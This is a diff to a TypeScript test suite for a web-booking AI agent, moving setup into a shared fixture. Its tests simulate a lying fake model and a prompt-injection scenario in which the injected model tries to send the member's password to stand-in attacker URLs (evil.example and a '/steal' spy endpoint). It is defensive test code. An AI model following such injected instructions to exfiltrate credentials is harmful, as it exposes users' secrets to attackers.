@@ -2,32 +2,14 @@
 // and a wrong password is tried exactly once and ends as a permanent failure.
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { openSession } from '../../agent/index';
 import { competent, injected, liar } from '../fake-ollama/behaviours';
-import { startFakeOllama, type FakeOllama } from '../fake-ollama/server';
-import { DEMO_MEMBERS, startVenue, type Venue } from '../venue/index';
-import { filesUnder, GOAL, MEMBER, removeDir, sessionOptions, TARGET, tempDir, VENUE_NOW, type Captured } from './helpers';
+import type { FakeOllama } from '../fake-ollama/server';
+import { DEMO_MEMBERS } from '../venue/index';
+import { filesUnder, GOAL, MEMBER, removeDir, sessionOptions, TARGET, tempDir, type Captured, useAgentFixture } from './helpers';
 
-let venue: Venue;
-let fake: FakeOllama;
-let dir: string;
-
-beforeAll(async () => {
-  venue = await startVenue({ layout: 'grid', testMode: true, now: VENUE_NOW });
-  fake = await startFakeOllama({ behaviour: competent() });
-  dir = await tempDir('safety');
-});
-afterAll(async () => {
-  await venue?.close();
-  await fake?.close();
-  await removeDir(dir);
-});
-beforeEach(() => {
-  venue.reset();
-  venue.setClock({ now: VENUE_NOW });
-  fake.requests.length = 0;
-});
+const t = useAgentFixture('safety', { behaviour: competent() });
 
 const want = { date: TARGET, time: '07:00', lane: '3' };
 
@@ -37,8 +19,8 @@ function chatsMention(f: FakeOllama, text: string): boolean {
 }
 
 it("a liar's claimed done is not found by verify()", async () => {
-  fake.setBehaviour(liar());
-  const session = await openSession(sessionOptions(venue, fake, dir));
+  t.fake.setBehaviour(liar());
+  const session = await openSession(sessionOptions(t.venue, t.fake, t.dir));
   try {
     const r = await session.book({ instructions: GOAL, want });
     expect(r.claimedDone).toBe(true);
@@ -47,7 +29,7 @@ it("a liar's claimed done is not found by verify()", async () => {
     expect(v.failure).toBeUndefined();
     expect(v.found).toBe(false);
     expect(v.seen).toEqual([]);
-    expect(venue.bookings()).toEqual([]);
+    expect(t.venue.bookings()).toEqual([]);
   } finally {
     await session.close();
   }
@@ -66,13 +48,13 @@ describe('prompt injection', () => {
   afterAll(async () => { await new Promise<void>((r) => spy.close(() => r())); });
 
   it.each(['grid', 'cards'] as const)('on %s: no request leaves the venue and no secret reaches a prompt, step, log or file', async (layout) => {
-    venue.setLayout(layout);
-    venue.setFaults({ injection: true });
-    fake.setBehaviour(injected({ evilUrls: ['http://evil.example/?p={p}', `${spyUrl}/steal?p={p}`] }));
+    t.venue.setLayout(layout);
+    t.venue.setFaults({ injection: true });
+    t.fake.setBehaviour(injected({ evilUrls: ['http://evil.example/?p={p}', `${spyUrl}/steal?p={p}`] }));
     const artifacts = await tempDir('inj');
     const captured: Captured = { logs: [], steps: [] };
     // The model logs in itself here, so it handles the {{password}} placeholder.
-    const session = await openSession({ ...sessionOptions(venue, fake, artifacts, {}, captured), loginHelper: false });
+    const session = await openSession({ ...sessionOptions(t.venue, t.fake, artifacts, {}, captured), loginHelper: false });
     let result;
     let verified;
     let blocked;
@@ -91,23 +73,23 @@ describe('prompt injection', () => {
     if (layout === 'cards') expect(messages).toMatch(/may only be typed into a password field/);
     // The attacker's link was clicked; the browser stopped the navigation before any request went out.
     expect(blocked.some((b) => b.navigation && b.url.startsWith('http://evil.example'))).toBe(true);
-    expect(chatsMention(fake, 'was blocked')).toBe(true);
+    expect(chatsMention(t.fake, 'was blocked')).toBe(true);
     // … nothing reached the attacker (the spy server is a real listener on another origin) …
     expect(spyHits).toEqual([]);
-    expect(blocked.every((b) => !b.url.startsWith(venue.origin))).toBe(true);
+    expect(blocked.every((b) => !b.url.startsWith(t.venue.origin))).toBe(true);
     // … and the booking still happened, on the venue only.
     expect(result.failure).toBeUndefined();
     expect(verified.found).toBe(true);
-    expect(venue.bookings()).toMatchObject([{ member: MEMBER.username, date: TARGET, time: '07:00', lane: 3 }]);
-    expect(venue.requests().some((r) => /evil|steal/.test(r.path + r.query))).toBe(false);
-    expect(venue.requests().some((r) => r.query.includes(MEMBER.password))).toBe(false);
+    expect(t.venue.bookings()).toMatchObject([{ member: MEMBER.username, date: TARGET, time: '07:00', lane: 3 }]);
+    expect(t.venue.requests().some((r) => /evil|steal/.test(r.path + r.query))).toBe(false);
+    expect(t.venue.requests().some((r) => r.query.includes(MEMBER.password))).toBe(false);
 
     // Secrets: scan everything sent to the model, every step, log line, result and file.
     const secretForms = [MEMBER.password, encodeURIComponent(MEMBER.password), MEMBER.username];
-    const chats = fake.requests.filter((r) => r.path === '/api/chat');
+    const chats = t.fake.requests.filter((r) => r.path === '/api/chat');
     expect(chats.length).toBeGreaterThan(5);
     const haystacks: [string, string][] = [
-      ...fake.requests.map((r, i): [string, string] => [`model request ${i}`, r.raw]),
+      ...t.fake.requests.map((r, i): [string, string] => [`model request ${i}`, r.raw]),
       ...captured.logs.map((l, i): [string, string] => [`log ${i}`, l]),
       ...captured.steps.map((s, i): [string, string] => [`step ${i}`, JSON.stringify(s)]),
       ['result', JSON.stringify(result)],
@@ -127,9 +109,9 @@ describe('prompt injection', () => {
 
 describe('wrong password', () => {
   it('verify() and book() end permanent login-failed after exactly one login try', async () => {
-    venue.setLayout('grid');
-    fake.setBehaviour(competent());
-    const session = await openSession(sessionOptions(venue, fake, dir, { password: 'not-the-password' }));
+    t.venue.setLayout('grid');
+    t.fake.setBehaviour(competent());
+    const session = await openSession(sessionOptions(t.venue, t.fake, t.dir, { password: 'not-the-password' }));
     try {
       const v = await session.verify(want);
       expect(v.found).toBe(false);
@@ -141,14 +123,14 @@ describe('wrong password', () => {
     } finally {
       await session.close();
     }
-    const logins = venue.requests().filter((r) => r.method === 'POST' && r.path === '/login');
+    const logins = t.venue.requests().filter((r) => r.method === 'POST' && r.path === '/login');
     expect(logins).toHaveLength(1);
   });
 
   it('a model-driven login stops at the first rejection, and the account is not locked', async () => {
-    venue.setLayout('cards');
-    fake.setBehaviour(competent());
-    const session = await openSession({ ...sessionOptions(venue, fake, dir, { password: 'not-the-password' }), loginHelper: false });
+    t.venue.setLayout('cards');
+    t.fake.setBehaviour(competent());
+    const session = await openSession({ ...sessionOptions(t.venue, t.fake, t.dir, { password: 'not-the-password' }), loginHelper: false });
     try {
       const b = await session.book({ instructions: GOAL, want });
       expect(b.failure).toMatchObject({ kind: 'permanent', code: 'login-failed' });
@@ -156,9 +138,9 @@ describe('wrong password', () => {
     } finally {
       await session.close();
     }
-    expect(venue.requests().filter((r) => r.method === 'POST' && r.path === '/login')).toHaveLength(1);
+    expect(t.venue.requests().filter((r) => r.method === 'POST' && r.path === '/login')).toHaveLength(1);
     // Still not locked: the right password works.
-    const ok = await openSession(sessionOptions(venue, fake, dir));
+    const ok = await openSession(sessionOptions(t.venue, t.fake, t.dir));
     try {
       const v = await ok.verify(want);
       expect(v.failure).toBeUndefined();
@@ -168,16 +150,16 @@ describe('wrong password', () => {
   });
 
   it('a member without booking rights ends permanent not-allowed', async () => {
-    venue.setLayout('grid');
-    fake.setBehaviour(competent());
+    t.venue.setLayout('grid');
+    t.fake.setBehaviour(competent());
     const robin = DEMO_MEMBERS.find((m) => m.canBook === false)!;
-    const session = await openSession(sessionOptions(venue, fake, dir, { username: robin.username, password: robin.password }));
+    const session = await openSession(sessionOptions(t.venue, t.fake, t.dir, { username: robin.username, password: robin.password }));
     try {
       const b = await session.book({ instructions: GOAL, want });
       expect(b.failure).toMatchObject({ kind: 'permanent', code: 'not-allowed' });
     } finally {
       await session.close();
     }
-    expect(venue.bookings()).toEqual([]);
+    expect(t.venue.bookings()).toEqual([]);
   });
 });
